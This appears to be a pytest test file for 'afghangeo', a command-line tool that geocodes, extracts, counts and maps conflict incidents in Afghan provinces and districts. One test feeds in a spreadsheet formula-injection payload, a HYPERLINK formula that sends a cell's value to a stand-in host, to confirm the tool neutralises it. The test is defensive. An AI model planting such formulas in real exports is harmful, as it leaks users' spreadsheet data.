from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from afghangeo.cli import main

EXAMPLE = Path(__file__).resolve().parents[1] / "examples" / "incidents.csv"


def _one_error_line(err: str) -> None:
    assert err.startswith("afghangeo: error:")
    assert err.count("\n") == 1
    assert "Traceback" not in err


def test_provinces_table(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["provinces"]) == 0
    out = capsys.readouterr().out
    assert "Helmand" in out
    assert "AF-HEL" in out
    assert out.count("\n") == 35


def test_provinces_csv(tmp_path: Path) -> None:
    path = tmp_path / "p.csv"
    assert main(["provinces", "-o", str(path)]) == 0
    table = pd.read_csv(path)
    assert len(table) == 34
    assert "geometry" not in table


def test_districts_of_a_province(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["districts", "--province", "Hilmand"]) == 0
    out = capsys.readouterr().out
    assert "Nawa-i-Barakzayi" in out
    assert "Kabul" not in out


def test_locate(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["locate", "--lon", "64.3716", "--lat", "31.5938"]) == 0
    assert "Lashkar Gah" in capsys.readouterr().out
    assert main(["locate", "--lon", "59.606", "--lat", "36.297"]) == 1  # Mashhad: no result


def test_errors_are_one_line_and_exit_2(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["normalize", "Nawa", "--district"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("afghangeo: error:")
    assert "ambiguous" in err
    assert err.count("\n") == 1
    assert "Traceback" not in err
    assert main(["normalize", "Helmandshire"]) == 2
    assert "Did you mean 'Helmand'" in capsys.readouterr().err


def test_usage_error_exits_2() -> None:
    with pytest.raises(SystemExit) as info:
        main(["no-such-command"])
    assert info.value.code == 2


def test_python_dash_m() -> None:
    out = subprocess.run(
        [sys.executable, "-m", "afghangeo", "normalize", "Qala-e-Naw", "--district"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert out.stdout.strip() == "Qala-i-Naw"


def test_count_the_example_incidents(capsys: pytest.CaptureFixture[str]) -> None:
    example = Path(__file__).resolve().parents[1] / "examples" / "incidents.csv"
    assert main(["count", str(example), "--weight", "killed"]) == 0
    table = pd.read_csv(io.StringIO(capsys.readouterr().out))  # CSV when not a terminal
    assert len(table) == 35  # 34 provinces and 'unlocated'
    assert list(table.columns) == ["province", "iso_3166_2", "count", "killed", "killed_missing"]
    assert {"Helmand", "Badghis", "unlocated"} <= set(table["province"])


def test_count_a_missing_file_is_one_clear_line(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["count", "no-such-file.csv"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("afghangeo: error:") and "Traceback" not in err


# --- geocode ------------------------------------------------------------------------------


def test_geocode_a_list_of_names(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    names = tmp_path / "names.txt"
    names.write_text("Kabul\n\nNawa\n# a comment\nDoha\nLashkar Gah\n", encoding="utf-8")
    assert main(["geocode", str(names), "--format", "table"]) == 0
    captured = capsys.readouterr()
    lines = captured.out.splitlines()
    assert len(lines) == 5
    assert lines[0].split()[:3] == ["input", "name", "province"]
    assert "matched" in lines[1] and "ambiguous" in lines[2] and "not_found" in lines[3]
    assert "located 2 of 4" in captured.err
    out = tmp_path / "out.csv"
    assert main(["geocode", str(names), "--province", "Hilmand", "-o", str(out)]) == 0
    table = pd.read_csv(out)
    assert table["input"].tolist() == ["Kabul", "Nawa", "Doha", "Lashkar Gah"]
    assert table["status"].tolist() == ["not_found", "matched", "not_found", "matched"]
    assert table.loc[1, "name"] == "Nawa-i-Barakzayi"
    assert {"lat", "lon", "precision", "kind", "score", "district"} <= set(table.columns)


def test_geocode_names_from_stdin(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO("Doha\nAtlantis\n"))
    assert main(["geocode", "-"]) == 1  # nothing located
    assert "located 0 of 2" in capsys.readouterr().err
    monkeypatch.setattr(sys, "stdin", io.StringIO("Herat\n"))
    assert main(["geocode", "-"]) == 0
    assert "Herat" in capsys.readouterr().out


def test_geocode_a_table(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    assert main(["geocode", str(EXAMPLE), "-o", str(out)]) == 0
    table = pd.read_csv(out)
    assert len(table) == 5
    assert "geometry" not in table
    assert list(table.columns[-11:]) == [
        "place", "province", "district", "latitude", "longitude", "precision", "score",
        "status", "issue", "date", "date_end",
    ]  # fmt: skip
    assert {"date_input", "date_end_input", "killed", "notes", "place_input"} <= set(table)
    first = table.iloc[0]
    assert (first["province"], first["district"]) == ("Helmand", "Lashkar Gah")
    assert abs(first["latitude"] - 31.594) < 0.01 and abs(first["longitude"] - 64.372) < 0.01


def test_geocode_a_table_with_column_and_province(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "reports.tsv"
    source.write_text("where\twhat\tlatitude\tlongitude\nNawa\tattack\t\t\nGereshk\traid\t\t\n")
    out = tmp_path / "out.csv"
    assert main(["geocode", str(source), "--column", "where", "--province", "Helmand",
                 "-o", str(out)]) == 0  # fmt: skip
    table = pd.read_csv(out)
    assert table["province"].tolist() == ["Helmand", "Helmand"]
    assert table["district"].iloc[0] == "Nawa-i-Barakzayi"
    assert "latitude_input" in table and "longitude_input" in table  # kept, renamed
    capsys.readouterr()
    nowhere = tmp_path / "nowhere.csv"
    nowhere.write_text("place\nAtlantis\n")
    assert main(["geocode", str(nowhere)]) == 1
    assert "unlocated" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["geocode", "no-such-file.csv"], "No such file"),
        (["geocode", "no-such-names.txt"], "no-such-names.txt"),
        (["geocode", str(EXAMPLE), "--column", "nope"], "maps 'place' to 'nope'"),
        (["geocode", str(EXAMPLE), "--province", "Atlantis"], "Unknown province"),
        (["geocode", "-", "--column", "place"], "--column/--columns are for tables"),
    ],
)
def test_geocode_user_errors_are_one_line(
    argv: list[str], expected: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(argv) == 2
    err = capsys.readouterr().err
    _one_error_line(err)
    assert expected in err


def test_geocode_a_table_without_place_columns(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "t.csv"
    source.write_text("foo,bar\n1,2\n")
    assert main(["geocode", str(source)]) == 2
    err = capsys.readouterr().err
    _one_error_line(err)
    assert "Cannot tell where" in err


# --- map ----------------------------------------------------------------------------------


def _offline_page(path: Path) -> str:
    text = path.read_text(encoding="utf-8")
    assert '<script src="http' not in text
    assert '<link href="http' not in text
    assert "Helmand" in text
    return text


@pytest.mark.parametrize(
    "extra",
    [[], ["--choropleth"], ["--choropleth", "--by", "district"], ["--weight", "killed"]],
)
def test_map_the_example(
    extra: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "m.html"
    assert main(["map", str(EXAMPLE), "-o", str(out), *extra]) == 0
    _offline_page(out)
    err = capsys.readouterr().err
    assert err.startswith(f"wrote {out} (5 incidents, 5 located, 0 unlocated; ")
    assert err.rstrip().endswith("KB)")


def test_map_choropleth_of_a_weight_with_title_and_tiles(tmp_path: Path) -> None:
    out = tmp_path / "m.html"
    argv = ["map", str(EXAMPLE), "-o", str(out), "--choropleth", "--weight", "killed",
            "--title", "Helmand & <Badghis>", "--online-tiles"]  # fmt: skip
    assert main(argv) == 0
    text = _offline_page(out)
    assert "tile.openstreetmap.org" in text
    assert "Helmand &amp; &lt;Badghis&gt;" in text
    assert "<Badghis>" not in text


def test_map_counts_unlocated_rows(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "i.csv"
    source.write_text("place,province,killed\nLashkar Gah,Helmand,2\nAtlantis,,1\n")
    out = tmp_path / "m.html"
    assert main(["map", str(source), "-o", str(out), "--by", "province"]) == 0
    assert "(2 incidents, 1 located, 1 unlocated;" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["map", "no-such-file.csv", "-o", "m.html"], "No such file"),
        (["map", str(EXAMPLE), "-o", "no-such-folder/m.html"], "does not exist"),
        (["map", str(EXAMPLE), "-o", "m.html", "--choropleth", "--weight", "nope"], "nope"),
        (["map", str(EXAMPLE), "-o", "m.html", "--weight", "nope"], "nope"),
    ],
)
def test_map_user_errors_are_one_line(
    argv: list[str], expected: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(argv) == 2
    err = capsys.readouterr().err
    _one_error_line(err)
    assert expected in err


def test_map_needs_an_output() -> None:
    with pytest.raises(SystemExit) as info:
        main(["map", str(EXAMPLE)])
    assert info.value.code == 2


def test_help_does_not_import_folium() -> None:
    code = (
        "import sys\n"
        "from afghangeo.cli import main\n"
        "try:\n    main(['map', '--help'])\nexcept SystemExit:\n    pass\n"
        "print('folium' in sys.modules)"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip().endswith("False")


REPORTS = sorted((Path(__file__).resolve().parents[1] / "examples" / "reports").glob("*.txt"))


def test_extract_the_example_reports_then_count_and_map(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert len(REPORTS) == 2
    out = tmp_path / "incidents.csv"
    assert main(["extract", *map(str, REPORTS), "-o", str(out)]) == 0
    assert "national figures" in capsys.readouterr().err
    table = pd.read_csv(out)
    assert set(table["province"]) == {"Badghis", "Helmand"}
    assert {"Babaji", "Chah-e Anjir"} <= set(table["place"])
    badghis = table[table["province"] == "Badghis"].iloc[0]
    assert badghis["killed"] == 13 and badghis["date"] == "2020-04-23"
    assert table["displaced_families"].max() == 1500
    counts = tmp_path / "counts.csv"
    assert main(["count", str(out), "--weight", "killed", "-o", str(counts)]) == 0
    totals = pd.read_csv(counts)
    assert totals["count"].sum() == len(table) and totals["killed"].sum() == 13
    html = tmp_path / "map.html"
    assert main(["map", str(out), "-o", str(html)]) == 0
    assert "Badghis" in html.read_text(encoding="utf-8")


def test_extract_places_from_stdin(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import io

    monkeypatch.setattr(
        "sys.stdin", io.StringIO("Mr. Afghan said Nawa, near Lashkar Gah, and Doha.")
    )
    assert main(["extract", "--places", "-"]) == 0
    out = capsys.readouterr().out
    assert "Nawa-i-Barakzayi" in out and "Doha" in out
    assert "Afghan " not in out.split("\n", 1)[1]


def test_extract_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["extract", str(tmp_path / "missing.txt")]) == 2
    assert capsys.readouterr().err.startswith("afghangeo: error:")
    latin1 = tmp_path / "latin1.txt"
    latin1.write_bytes("Kabul caf\xe9".encode("latin-1"))
    assert main(["extract", str(latin1)]) == 2
    assert "UTF-8" in capsys.readouterr().err
    empty = tmp_path / "empty.txt"
    empty.write_text("Nothing happened here.", encoding="utf-8")
    assert main(["extract", str(empty), "--published", "2020-01-01"]) == 1
    assert main(["extract", str(empty), "--published", "someday"]) == 2


# --- extract over a corpus: folders, JSON Lines, standard input (#14 item 5) -------------

_BADGHIS = "Taliban fighters attacked a post in Badghis Province late Thursday, killing 13."
_HELMAND = "A bomb killed 3 in Lashkar Gah on Monday."


def test_extract_a_folder_of_articles(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "articles"
    (folder / "2020").mkdir(parents=True)
    (folder / "a.txt").write_text(_BADGHIS, encoding="utf-8")
    (folder / "2020" / "b.txt").write_text(_HELMAND, encoding="utf-8")
    (folder / "calm.txt").write_text("The council met.", encoding="utf-8")
    (folder / "latin1.txt").write_bytes("Kabul caf\xe9".encode("latin-1"))
    (folder / "notes.md").write_text(_HELMAND, encoding="utf-8")  # not a .txt: not read
    out = tmp_path / "rows.csv"
    assert main(["extract", str(folder), "--published", "2020-04-24", "-o", str(out)]) == 0
    err = capsys.readouterr().err
    assert "latin1.txt" in err and "UTF-8" in err and "Traceback" not in err
    assert "3 articles: 2 with incidents" in err
    table = pd.read_csv(out)
    assert table["source"].tolist() == ["2020/b.txt", "a.txt"]
    assert table["province"].tolist() == ["Helmand", "Badghis"]
    assert table["date"].tolist() == ["2020-04-20", "2020-04-23"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["articles", "rows.csv"]  # atomic


def test_extract_json_lines_warns_of_bad_lines(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = [
        json.dumps({"text": _BADGHIS, "published": "2020-04-24", "source": "https://a"}),
        "{not json",
        "",
        json.dumps(["a list"]),
        json.dumps({"text": 5}),
        json.dumps({"text": _HELMAND, "published": "someday"}),
        json.dumps({"text": _HELMAND, "published": "2020-10-14"}),
    ]
    path = tmp_path / "articles.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "rows.parquet"
    assert main(["extract", str(path), "-o", str(out)]) == 0
    warnings = [line for line in capsys.readouterr().err.splitlines() if "warning" in line]
    assert len(warnings) == 4
    for number, warning in zip((2, 4, 5), warnings, strict=False):
        assert warning.startswith(f"afghangeo: warning: {path} line {number}: ")
    assert f"{path}:6: InvalidInputError" in warnings[3] and "someday" in warnings[3]
    table = pd.read_parquet(out)
    assert table["source"].tolist() == ["https://a", f"{path}:7"]
    assert table["killed"].tolist() == [13, 3]


def test_extract_json_lines_from_stdin(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = [json.dumps({"text": _HELMAND, "published": "2020-10-14"}), json.dumps({"text": 1})]
    monkeypatch.setattr("sys.stdin", io.StringIO("\n".join(lines)))
    assert main(["extract", "-"]) == 0
    captured = capsys.readouterr()
    table = pd.read_csv(io.StringIO(captured.out))
    assert table["source"].tolist() == ["stdin:1"] and table["date"].tolist() == ["2020-10-12"]
    assert "stdin line 2: not an object" in captured.err


@pytest.mark.parametrize(
    ("content", "status"),
    [("", 1), ("\n\n", 1), ("{bad\n[]\n", 1), (json.dumps({"text": _HELMAND}), 0)],
    ids=["empty", "blank lines", "only bad lines", "one good line"],
)
def test_extract_json_lines_exit_status(tmp_path: Path, content: str, status: int) -> None:
    path = tmp_path / "a.jsonl"
    path.write_text(content, encoding="utf-8")
    assert main(["extract", str(path), "-o", str(tmp_path / "out.csv")]) == status


def test_extract_a_missing_json_lines_file_is_one_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["extract", str(tmp_path / "missing.jsonl")]) == 2
    _one_error_line(capsys.readouterr().err)


# --- pipes and formats (#15 item 5) --------------------------------------------------------


def _run(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "afghangeo", *args],
        input=stdin, capture_output=True, text=True, check=False, timeout=120,
    )  # fmt: skip


def test_csv_flows_from_one_command_into_the_next(tmp_path: Path) -> None:
    geocoded = _run("geocode", str(EXAMPLE))
    assert geocoded.returncode == 0, geocoded.stderr
    assert geocoded.stdout.startswith("date_input,")  # CSV, not a display table
    counted = _run("count", "-", "--level", "district", stdin=geocoded.stdout)
    assert counted.returncode == 0, counted.stderr
    table = pd.read_csv(io.StringIO(counted.stdout))
    assert len(table) == 398 + 34 + 1
    assert table["count"].sum() == len(pd.read_csv(EXAMPLE))


@pytest.mark.parametrize("suffix", [".csv", ".json", ".geojson", ".gpkg", ".parquet", ".xlsx"])
def test_output_format_follows_the_extension(tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"geocoded{suffix}"
    assert main(["geocode", str(EXAMPLE), "-o", str(out)]) == 0
    if suffix in (".geojson", ".gpkg"):
        import geopandas

        back = geopandas.read_file(out)
        assert back.geometry.notna().any()
    elif suffix == ".json":
        back = pd.read_json(out)
    elif suffix == ".parquet":
        back = pd.read_parquet(out)
    elif suffix == ".xlsx":
        back = pd.read_excel(out)
    else:
        back = pd.read_csv(out)
    assert len(back) == len(pd.read_csv(EXAMPLE))


def test_an_unknown_output_extension_is_an_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["count", str(EXAMPLE), "-o", str(tmp_path / "counts.docx")]) == 2
    _one_error_line(capsys.readouterr().err)
    assert not (tmp_path / "counts.docx").exists()


def test_dash_o_dash_is_standard_output(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["count", str(EXAMPLE), "-o", "-", "--format", "json"]) == 0
    out = capsys.readouterr().out
    assert out.lstrip().startswith("[") and not (Path.cwd() / "-").exists()


def test_a_closed_pipe_ends_quietly() -> None:
    shell = f"{sys.executable} -m afghangeo districts | head -n 2"
    done = subprocess.run(
        ["bash", "-c", f"set -o pipefail; {shell}"],
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )
    assert done.stdout.count("\n") == 2
    assert "Broken pipe" not in done.stderr and "Traceback" not in done.stderr


def test_formula_cells_are_neutralised_unless_raw(tmp_path: Path) -> None:
    names = tmp_path / "names.txt"
    names.write_text('=HYPERLINK("http://x/?"&A1,"click")\nKabul\n-5\n', encoding="utf-8")
    safe = _run("geocode", str(names))
    assert "'=HYPERLINK" in safe.stdout and "\n=HYPERLINK" not in safe.stdout
    raw = _run("geocode", str(names), "--raw")
    assert '"=HYPERLINK' in raw.stdout or "\n=HYPERLINK" in raw.stdout


def test_columns_option_maps_roles(tmp_path: Path) -> None:
    table = tmp_path / "t.csv"
    table.write_text("qaryah,wilayat_name\nLashkar Gah,Helmand\nBabaji,Helmand\n", encoding="utf-8")
    done = _run("count", str(table), "--columns", "place=qaryah", "province=wilayat_name")
    assert done.returncode == 0, done.stderr
    counts = pd.read_csv(io.StringIO(done.stdout)).set_index("province")
    assert counts.loc["Helmand", "count"] == 2


def test_did_you_mean_for_commands_and_roles(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as info:
        main(["cuont", "x.csv"])
    assert info.value.code == 2
    err = capsys.readouterr().err
    assert "did you mean 'count'?" in err and err.count("\n") == 1
    assert main(["count", str(EXAMPLE), "--columns", "plcae=location"]) == 2
    assert "Did you mean 'place'?" in capsys.readouterr().err


def test_usage_errors_are_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as info:
        main(["locate", "--lon", "abc", "--lat", "1"])
    assert info.value.code == 2
    _one_error_line(capsys.readouterr().err)


def test_locate_takes_lon_and_lat_by_name(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["locate", "--lat", "31.5938", "--lon", "64.3716", "--format", "csv"]) == 0
    table = pd.read_csv(io.StringIO(capsys.readouterr().out))
    assert table[["province", "district"]].iloc[0].tolist() == ["Helmand", "Lashkar Gah"]
